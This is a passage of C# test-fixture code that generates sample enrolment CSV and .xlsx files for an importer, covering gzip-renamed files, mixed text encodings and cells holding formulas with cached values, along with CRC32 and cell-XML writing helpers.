    public static byte[] GzipRenamedCsv()
    {
        using var output = new MemoryStream();
        using (var gzip = new GZipStream(output, CompressionLevel.Optimal, leaveOpen: true))
        {
            gzip.Write(ValidCsv(seed: 44));
        }

        return output.ToArray();
    }

    /// <summary>
    /// An enrolment CSV pasted together from two files: the first rows' names in UTF-8 ("Sitï", two bytes each), the
    /// rest of the file, and one more name, in Windows-1252 (one byte each).
    /// </summary>
    public static byte[] MixedEncodingsCsv()
    {
        var rows = EnrolmentSheet.Rows(12, "5204", Agreement, CoverageStart, CoverageEnd, seed: 45).ToList();
        rows[0][EnrolmentSheet.Columns.FullName] = "Sitï Aminah";
        rows[11][EnrolmentSheet.Columns.FullName] = "Andréas Wea";
        var head = SpreadsheetWriter.CsvBytes(EnrolmentSheet.WithHeader(rows.Take(6)), ';');
        var tail = SpreadsheetWriter.CsvBytes(rows.Skip(6), ';', SpreadsheetWriter.Windows1252);
        return [.. head, .. tail];
    }

    /// <summary>
    /// An enrolment .xlsx whose cells hold formulas with cached values (<c>&lt;f&gt;</c> and <c>&lt;v&gt;</c>) and text
    /// that looks like formulas (<see cref="FormulaInjectionCells"/>): the cached values and the text are what is read.
    /// </summary>
    public static byte[] FormulaCellsXlsx()
    {
        var rows = EnrolmentSheet.Rows(8, "5204", Agreement, CoverageStart, CoverageEnd, seed: 46).ToList();
        foreach (var (row, column, value) in FormulaInjectionCells)
        {
            rows[row][column] = value;
        }

        var sheet = new StringBuilder("""<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>""");
        sheet.Append(HeaderRowXml(EnrolmentSheet.Header));
        using (var buffer = new StringWriter(CultureInfo.InvariantCulture))
        {
            using (var xml = XmlWriter.Create(buffer, new XmlWriterSettings { OmitXmlDeclaration = true, ConformanceLevel = ConformanceLevel.Fragment }))
            {
                for (var i = 0; i < rows.Count; i++)
                {
                    WriteRawRow(xml, i + 2, rows[i]);
                }
            }

            sheet.Append(buffer);
        }

        // Row 10: a worker whose income is a formula Excel saved with its value.
        var last = EnrolmentSheet.Rows(9, "5204", Agreement, CoverageStart, CoverageEnd, seed: 46).Last();
        using (var buffer = new StringWriter(CultureInfo.InvariantCulture))
        {
            using (var xml = XmlWriter.Create(buffer, new XmlWriterSettings { OmitXmlDeclaration = true, ConformanceLevel = ConformanceLevel.Fragment }))
            {
                WriteRawRow(xml, 10, [.. last.Take(EnrolmentSheet.Columns.Income)]);
            }

            sheet.Append(buffer.ToString().Replace("</row>", "<c r=\"O10\"><f>1500000*2</f><v>3000000</v></c></row>", StringComparison.Ordinal));
        }

        sheet.Append("</sheetData></worksheet>");
        return RawXlsx(sheet.ToString());
    }

    /// <summary>A valid enrolment CSV (header + 10 rows) for the corpus's tricky file names.</summary>
    public static byte[] ValidCsv(int seed) =>
        SpreadsheetWriter.CsvBytes(EnrolmentSheet.WithHeader(EnrolmentSheet.Rows(10, "5204", Agreement, CoverageStart, CoverageEnd, seed)));

    private static uint Crc32(ReadOnlySpan<byte> data)
    {
        var crc = 0xFFFFFFFFu;
        foreach (var b in data)
        {
            crc ^= b;
            for (var k = 0; k < 8; k++)
            {
                crc = (crc & 1) != 0 ? (crc >> 1) ^ 0xEDB88320u : crc >> 1;
            }
        }

        return ~crc;
    }

    private static string HeaderRowXml(IReadOnlyList<string> header)
    {
        var sb = new StringBuilder("<row r=\"1\">");
        for (var i = 0; i < header.Count; i++)
        {
            sb.Append(CultureInfo.InvariantCulture, $"<c r=\"{CellAddress.Cell(i, 1)}\" t=\"inlineStr\"><is><t>{System.Security.SecurityElement.Escape(header[i])}</t></is></c>");
        }

        return sb.Append("</row>").ToString();
    }

    private static byte[] RawXlsx(string sheetXml, string? sharedStringsXml = null)
    {
        using var output = new MemoryStream();
        XlsxPackage.Write(output,
            [new XlsxSheetEntry("Daftar Peserta", false, s => s.Write(Encoding.UTF8.GetBytes(sheetXml)))],
            sharedStringsXml is null ? null : s => s.Write(Encoding.UTF8.GetBytes(sharedStringsXml)));
        return output.ToArray();
    }

    private static void WriteRawRow(XmlWriter xml, int rowNumber, object?[] values)
    {
        xml.WriteStartElement("row", XlsxPackage.MainNs);
        xml.WriteAttributeString("r", rowNumber.ToString(CultureInfo.InvariantCulture));
        for (var i = 0; i < values.Length; i++)
        {
            var value = CellContent.From(values[i]);
            if (value.Kind == CellKind.None)
            {
                continue;
            }

            xml.WriteStartElement("c", XlsxPackage.MainNs);
            xml.WriteAttributeString("r", CellAddress.Cell(i, rowNumber));
            switch (value.Kind)
            {
                case CellKind.Text:
                    xml.WriteAttributeString("t", "inlineStr");
                    xml.WriteStartElement("is", XlsxPackage.MainNs);
                    xml.WriteElementString("t", XlsxPackage.MainNs, CellContent.XmlSafe(value.Text!));
                    xml.WriteEndElement();
                    break;
                case CellKind.Date or CellKind.DateTime:
                    xml.WriteAttributeString("s", (value.Kind == CellKind.Date ? XlsxPackage.StyleDate : XlsxPackage.StyleDateTime).ToString(CultureInfo.InvariantCulture));
                    xml.WriteElementString("v", XlsxPackage.MainNs, value.Date.ToOADate().ToString("R", CultureInfo.InvariantCulture));
                    break;
                case CellKind.Boolean:
                    xml.WriteAttributeString("t", "b");
                    xml.WriteElementString("v", XlsxPackage.MainNs, value.Boolean ? "1" : "0");
                    break;
                default:
                    xml.WriteElementString("v", XlsxPackage.MainNs, CellContent.FormatDouble(value.Number));
                    break;
            }

            xml.WriteEndElement();
        }

        xml.WriteEndElement();
    }
}
